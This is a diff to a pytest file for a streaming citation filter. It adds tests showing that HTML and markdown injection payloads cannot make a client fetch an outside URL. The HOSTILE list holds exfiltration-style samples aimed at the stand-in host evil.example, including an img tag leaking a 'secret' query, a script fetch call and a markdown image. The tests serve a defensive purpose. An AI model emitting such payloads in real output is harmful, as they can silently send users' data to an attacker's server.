@@ -1,5 +1,7 @@
 """Citations in a stream, and the sources an answer is given."""
 
+import re
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -117,3 +119,34 @@ def test_an_answer_that_is_no_prose_is_left_as_it_is():
     unchecked = Untouched()
     assert unchecked.feed('{"rows": [1, ') + unchecked.feed("22]}") + unchecked.flush() == '{"rows": [1, 22]}'
     assert unchecked.cited == []
+
+
+HOSTILE = [
+    '<img src="https://evil.example/?q=secret">',
+    "<IMG/src=//evil.example>",
+    "<img\nsrc=x>",
+    '<div style="background:url(https://evil.example)">',
+    "<script>fetch('//evil.example')</script>",
+    "<iframe>",
+    f"<x-{'a' * 80} style='background:url(//evil.example)'>",
+    '<svg><image href="//evil.example"/></svg>',
+    "![a](https://evil.example)",
+]
+
+
+@pytest.mark.parametrize("piece", HOSTILE)
+@pytest.mark.parametrize("cut", [1, 2, 3, 5, 1000])
+def test_nothing_in_an_answer_makes_a_program_fetch_what_a_document_wants(piece: str, cut: int) -> None:
+    checked, text = CitationFilter(()), f"Look: {piece} there."
+    shown = "".join(checked.feed(text[at : at + cut]) for at in range(0, len(text), cut)) + checked.flush()
+    assert not re.search(r"<[a-zA-Z]+[\s/]|<(script|iframe|svg)", shown, re.I)
+    assert "![" not in shown
+    assert shown.replace("< ", "<").replace("[a]", "![a]") == text
+
+
+@pytest.mark.parametrize(
+    "text", ["List<int> and Map<String, int>", "a <b> c </b>", "<https://example.org>", "1 < 2 <3"]
+)
+def test_what_is_no_tag_that_fetches_stays(text: str) -> None:
+    checked = CitationFilter(())
+    assert checked.feed(text) + checked.flush() == text
